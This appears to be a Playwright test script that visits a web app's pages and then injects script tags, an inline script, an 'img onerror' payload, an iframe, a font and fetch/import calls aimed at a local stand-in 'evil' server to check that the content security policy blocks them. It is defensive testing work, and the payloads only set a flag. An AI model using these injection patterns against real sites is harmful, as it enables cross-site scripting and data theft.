// Visits every page of a running Belfry with a recording browser, then does in the page what a
// rendering bug would let others do. Prints what happened as one JSON document.
//
// node visit.mjs <origin> <path>…
import { createServer } from 'node:http';
import { createRequire } from 'node:module';

const { chromium } = createRequire(`${process.cwd()}/web/`)('playwright-core');
const [origin, ...paths] = process.argv.slice(2);

let hits = 0;
const evil = createServer((_, response) => {
  hits += 1;
  response.setHeader('Access-Control-Allow-Origin', '*');
  response.setHeader('Content-Type', 'text/javascript');
  response.end('window.hacked = true;');
});
await new Promise((resolve) => evil.listen(0, '127.0.0.1', resolve));
const elsewhere = `http://127.0.0.1:${evil.address().port}`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});
const context = await browser.newContext();
await context.addInitScript(() => {
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
  );
});
const page = await context.newPage();
const requests = [];
const errors = [];
const failed = [];
context.on('request', (request) => requests.push(request.url()));
page.on('pageerror', (error) => errors.push(String(error)));
page.on('console', (message) => message.type() === 'error' && errors.push(message.text()));

const pending = new Set();
context.on('request', (request) => pending.add(request.url()));
context.on('requestfinished', (request) => pending.delete(request.url()));
context.on('requestfailed', (request) => {
  pending.delete(request.url());
  failed.push(`${request.url()} ${request.failure()?.errorText}`);
});

async function show(path) {
  try {
    await page.goto(origin + path, { waitUntil: 'load' });
    await page.locator('main > *').first().waitFor({ state: 'attached' });
  } catch (error) {
    const shown = (await page.content()).slice(0, 2_000);
    console.error(`${path} shows nothing: ${error}`);
    console.error({ errors, failed, pending: [...pending], shown });
    process.exit(1);
  }
}

const pages = {};
for (const path of paths) {
  await show(path);
  await page.evaluate(() => document.fonts.ready);
  await page.waitForTimeout(300);
  pages[path] = await page.content();
}
const plain = {
  requests: [...requests],
  errors: [...errors],
  violations: await page.evaluate(() => window.violations),
};

await page.evaluate(async (from) => {
  const script = document.createElement('script');
  script.src = `${from}/evil.js`;
  document.body.append(script);
  const inline = document.createElement('script');
  inline.textContent = 'window.hacked = true;';
  document.body.append(inline);
  const holder = document.createElement('div');
  holder.innerHTML = '<img src="/assets/none" onerror="window.hacked = true">';
  document.body.append(holder);
  const frame = document.createElement('iframe');
  frame.src = `${from}/frame`;
  document.body.append(frame);
  const style = document.createElement('style');
  style.textContent = `@font-face{font-family:e;src:url(${from}/font)}`;
  document.head.append(style);
  await fetch(`${from}/tell`).catch(() => {});
  await import(`${from}/module.js`).catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 500));
}, elsewhere);

console.log(
  JSON.stringify({
    ...plain,
    pages,
    attack: {
      hits,
      hacked: await page.evaluate(() => 'hacked' in window),
      violations: await page.evaluate(() => window.violations),
      requests: requests.filter((url) => url.startsWith(elsewhere)),
      errors,
    },
  }),
);
await browser.close();
evil.close();
